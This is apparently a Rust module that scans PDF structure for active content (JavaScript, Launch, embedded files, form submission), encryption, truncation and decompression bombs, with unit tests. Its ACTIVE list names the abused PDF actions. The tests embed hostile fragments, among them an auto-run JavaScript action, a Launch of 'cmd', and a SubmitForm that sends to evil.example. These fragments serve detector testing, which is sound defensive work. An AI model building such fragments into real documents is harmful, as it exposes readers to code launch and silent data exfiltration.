//! What a PDF would do when it is opened, read from its structure (ISO 32000-1 §7).
//!
//! Names count where they are names: not in strings, not in the data of streams, and in whatever spelling (§7.3.5: `#xx`).
//! Objects are found wherever they stand, also in compressed object streams (§7.5.7), since a reader finds them by
//! offsets that need not follow the order of the file. All is bounded: the file is read once, and what is unpacked has
//! a limit.

use std::io::Read as _;

/// What a check found.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Pdf {
    Plain,
    /// It does not end as a PDF does.
    Torn,
    /// It runs, sends or carries something.
    Active,
    /// It opens with a password only, or says what may be done with it.
    Locked,
    /// Its objects are packed in a way that cannot be looked into.
    Closed,
}

/// Names that make a reader run, send or open something.
const ACTIVE: [&[u8]; 13] = [
    b"JavaScript",
    b"JS",
    b"Launch",
    b"EmbeddedFile",
    b"EmbeddedFiles",
    b"RichMedia",
    b"XFA",
    b"AA",
    b"SubmitForm",
    b"ImportData",
    b"GoToE",
    b"Movie",
    b"Rendition",
];
/// What all object streams of a file may unpack to; those of a thousand pages stay below a tenth of it.
const MOST_UNPACKED: u64 = 32 * 1024 * 1024;
/// The end mark stands in the last kilobytes; after it nothing does.
const TAIL: usize = 2048;

pub(super) fn check(content: &[u8]) -> Pdf {
    let tail = content.get(content.len().saturating_sub(TAIL)..).unwrap_or(content);
    if !tail.windows(5).any(|window| window == b"%%EOF") {
        return Pdf::Torn;
    }
    let mut seen = Seen::default();
    let mut left = MOST_UNPACKED;
    let starts = objects(content);
    for (at, start) in starts.iter().enumerate() {
        let end = starts.get(at + 1).copied().unwrap_or(content.len());
        let object = content.get(*start..end).unwrap_or_default();
        read_object(object, &mut seen, &mut left);
    }
    seen.verdict()
}

#[derive(Default)]
struct Seen {
    active: bool,
    locked: bool,
    closed: bool,
}

impl Seen {
    fn name(&mut self, name: &[u8]) {
        self.active |= ACTIVE.contains(&name);
        self.locked |= name == b"Encrypt";
    }

    /// A locked file is told so before anything else: nothing in it can be believed.
    fn verdict(&self) -> Pdf {
        match self {
            Self { locked: true, .. } => Pdf::Locked,
            Self { active: true, .. } => Pdf::Active,
            Self { closed: true, .. } => Pdf::Closed,
            _ => Pdf::Plain,
        }
    }
}

/// Where the parts begin that are read each for itself: after every `12 0 obj` and at every `trailer`, wherever they
/// stand, and at the beginning.
fn objects(content: &[u8]) -> Vec<usize> {
    let mut starts = vec![0];
    for at in 0..content.len() {
        let rest = content.get(at..).unwrap_or_default();
        if rest.starts_with(b"obj") && numbered(content.get(..at).unwrap_or_default()) {
            starts.push(at + 3);
        } else if rest.starts_with(b"trailer") {
            starts.push(at);
        }
    }
    starts
}

/// Whether a text ends in two numbers: `12 0 `.
fn numbered(before: &[u8]) -> bool {
    let before = before.trim_ascii_end();
    let digits = |text: &[u8]| text.iter().rev().take_while(|byte| byte.is_ascii_digit()).count();
    let generation = digits(before);
    let rest = before.get(..before.len() - generation).unwrap_or_default();
    let number = rest.trim_ascii_end();
    generation > 0 && number.len() < rest.len() && digits(number) > 0
}

/// Reads one object, what stands in its stream when that is one of objects, and what follows.
fn read_object(object: &[u8], seen: &mut Seen, left: &mut u64) {
    let mut rest = object;
    let mut dictionary = Dictionary::default();
    while let Some((token, after)) = next(rest) {
        rest = after;
        match token {
            Token::Name(name) => {
                seen.name(&name);
                dictionary.name(&name);
            }
            Token::Word(b"stream") => {
                let (data, after) = stream(rest);
                rest = after;
                dictionary.stream(data, seen, left);
                dictionary = Dictionary::default();
            }
            Token::Word(_) => {}
        }
    }
}

/// What the dictionary before a stream says about it.
#[derive(Default)]
struct Dictionary {
    kind: bool,
    count: bool,
    first: bool,
    /// Packed in another way than Flate alone.
    other: bool,
}

impl Dictionary {
    fn name(&mut self, name: &[u8]) {
        match name {
            b"ObjStm" => self.kind = true,
            b"N" => self.count = true,
            b"First" => self.first = true,
            b"LZWDecode" | b"LZW" | b"ASCII85Decode" | b"A85" | b"ASCIIHexDecode" | b"AHx" | b"RunLengthDecode"
            | b"RL" | b"Crypt" | b"DecodeParms" | b"DP" => self.other = true,
            _ => {}
        }
    }

    /// An object stream's content is structure. By its keys too: its type may be said elsewhere.
    fn stream(&self, data: &[u8], seen: &mut Seen, left: &mut u64) {
        if !(self.kind || self.count && self.first) {
            return;
        }
        if self.other {
            seen.closed = true;
            return;
        }
        let mut unpacked = Vec::new();
        // One that ends early has shown what a reader would see of it.
        let _ = flate2::read::ZlibDecoder::new(data)
            .take(*left + 1)
            .read_to_end(&mut unpacked);
        if unpacked.len() as u64 > *left {
            seen.closed = true;
            return;
        }
        *left -= unpacked.len() as u64;
        for mut rest in [data, unpacked.as_slice()] {
            while let Some((token, after)) = next(rest) {
                rest = after;
                if let Token::Name(name) = token {
                    seen.name(&name);
                }
            }
        }
    }
}

/// The data of a stream, and what follows it.
fn stream(rest: &[u8]) -> (&[u8], &[u8]) {
    let data = rest.strip_prefix(b"\r\n").or_else(|| rest.strip_prefix(b"\n"));
    let data = data.or_else(|| rest.strip_prefix(b"\r")).unwrap_or(rest);
    let end = data.windows(9).position(|window| window == b"endstream");
    match end {
        Some(end) => data.split_at(end),
        None => (data, &[]),
    }
}

enum Token<'a> {
    Name(Vec<u8>),
    Word(&'a [u8]),
}

/// The next name or word; strings, comments and brackets are passed over (§7.2, §7.3.4).
fn next(mut rest: &[u8]) -> Option<(Token<'_>, &[u8])> {
    loop {
        let (first, after) = rest.split_first()?;
        rest = match first {
            b'%' => after_line(after),
            b'(' => after_text(after),
            // `<<` opens a dictionary; `<` a text in hexadecimal.
            b'<' if after.first() == Some(&b'<') => after.get(1..)?,
            b'<' => after.split_at(after.iter().position(|byte| *byte == b'>')?).1,
            b'/' => {
                let (name, after) = word(after);
                return Some((Token::Name(spelled_out(name)), after));
            }
            byte if is_regular(*byte) => {
                let (word, after) = word(rest);
                return Some((Token::Word(word), after));
            }
            _ => after,
        }
    }
}

fn after_line(rest: &[u8]) -> &[u8] {
    let end = rest.iter().position(|byte| matches!(byte, b'\r' | b'\n'));
    end.and_then(|end| rest.get(end..)).unwrap_or_default()
}

/// Behind the bracket that closes a text; brackets in it come in pairs or are escaped.
fn after_text(rest: &[u8]) -> &[u8] {
    let (mut depth, mut at) = (1_u32, 0);
    while let Some(byte) = rest.get(at) {
        at += 1;
        match byte {
            b'\\' => at += 1,
            b'(' => depth += 1,
            b')' => depth -= 1,
            _ => {}
        }
        if depth == 0 {
            break;
        }
    }
    rest.get(at..).unwrap_or_default()
}

fn is_regular(byte: u8) -> bool {
    !matches!(
        byte,
        0 | b'\t' | b'\n' | 0x0C | b'\r' | b' ' | b'(' | b')' | b'<' | b'>' | b'[' | b']' | b'{' | b'}' | b'/' | b'%'
    )
}

fn word(rest: &[u8]) -> (&[u8], &[u8]) {
    let end = rest.iter().position(|byte| !is_regular(*byte)).unwrap_or(rest.len());
    rest.split_at(end)
}

/// A name with its `#xx` read.
fn spelled_out(name: &[u8]) -> Vec<u8> {
    let digit = |byte: Option<&u8>| byte.and_then(|byte| char::from(*byte).to_digit(16));
    let mut out = Vec::with_capacity(name.len());
    let mut at = 0;
    while let Some(byte) = name.get(at) {
        let coded = (*byte == b'#')
            .then(|| Some(digit(name.get(at + 1))? * 16 + digit(name.get(at + 2))?))
            .flatten()
            .and_then(|code| u8::try_from(code).ok());
        out.push(coded.unwrap_or(*byte));
        at += if coded.is_some() { 3 } else { 1 };
    }
    out
}

#[cfg(test)]
mod tests {
    use std::io::Write as _;

    use super::*;

    fn pdf(objects: &[&[u8]]) -> Vec<u8> {
        let mut out = b"%PDF-1.5\n".to_vec();
        for (at, object) in objects.iter().enumerate() {
            out.extend(format!("{} 0 obj\n", at + 1).bytes());
            out.extend(*object);
            out.extend(b"\nendobj\n");
        }
        out.extend(b"trailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF\n");
        out
    }

    fn packed(dictionary: &str, content: &[u8]) -> Vec<u8> {
        let mut zip = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        zip.write_all(content).unwrap();
        let data = zip.finish().unwrap();
        let mut out = format!("<< {dictionary} /Length {} >>\nstream\n", data.len()).into_bytes();
        out.extend(data);
        out.extend(b"\nendstream");
        out
    }

    #[test]
    fn names_count_in_the_structure_alone() {
        let catalogue: &[u8] = b"<< /Type /Catalog /Lang (zh /JS) /Title (a \\) \\( /JavaScript) >>";
        let page: &[u8] = b"<< /Length 30 >>\nstream\nBT (TypeScript/JavaScript) Tj /JS\xAB ET\nendstream";
        assert_eq!(
            check(&pdf(&[catalogue, page, b"<< /JSomething 1 >> % /JS\n"])),
            Pdf::Plain
        );
        for active in [
            &b"<< /OpenAction << /S /JavaScript /JS (x) >> >>"[..],
            b"<< /S /J#61vaScript >>",
            b"<< /S/#4aS(x) >>",
            b"<< /Names << /EmbeddedFiles 4 0 R >> >>",
            b"<< /AA << /O 4 0 R >> >>",
            b"<< /A << /S /SubmitForm /F (https://evil.example) >> >>",
            b"<< /A << /S /Launch /F (cmd) >> >>",
        ] {
            assert_eq!(check(&pdf(&[catalogue, active])), Pdf::Active, "{active:?}");
        }
    }

    #[test]
    fn a_compressed_object_stream_is_looked_into() {
        let action: &[u8] = b"4 0 << /Type /Catalog /OpenAction << /S /JavaScript /JS (x) >> >>";
        for dictionary in [
            "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
            "/Type 9 0 R /N 1 /First 4 /Filter 8 0 R",
        ] {
            assert_eq!(check(&pdf(&[&packed(dictionary, action)])), Pdf::Active);
            let plain: &[u8] = b"4 0 << /Type /Catalog /Title (/JS) >>";
            assert_eq!(check(&pdf(&[&packed(dictionary, plain)])), Pdf::Plain);
        }
        let parms = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>";
        assert_eq!(check(&pdf(&[&packed(parms, action)])), Pdf::Closed);
        let bomb = vec![b' '; 40 * 1024 * 1024];
        let dictionary = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode";
        assert_eq!(check(&pdf(&[&packed(dictionary, &bomb)])), Pdf::Closed);
    }

    #[test]
    fn an_object_hidden_in_a_stream_or_a_text_is_found() {
        let hidden: &[u8] = b"<< /Length 60 >>\nstream\nxx 7 0 obj << /S /JavaScript /JS (x) >> endobj\nendstream";
        assert_eq!(check(&pdf(&[hidden])), Pdf::Active);
        let hidden: &[u8] = b"<< /Title (never closed 7 0 obj << /S /Launch >> endobj";
        assert_eq!(check(&pdf(&[hidden])), Pdf::Active);
    }

    #[test]
    fn a_lock_and_a_missing_end_are_told() {
        let mut locked = pdf(&[b"<< /Type /Catalog >>"]);
        let at = locked.windows(5).position(|window| window == b"/Root").unwrap();
        locked.splice(at..at, *b"/Encrypt 5 0 R ");
        assert_eq!(check(&locked), Pdf::Locked);
        assert_eq!(check(b"%PDF-1.4 cut off"), Pdf::Torn);
        let mut tail = pdf(&[b"<< /Type /Catalog >>"]);
        tail.extend(vec![0; 100_000]);
        assert_eq!(check(&tail), Pdf::Torn, "something else follows");
    }
}
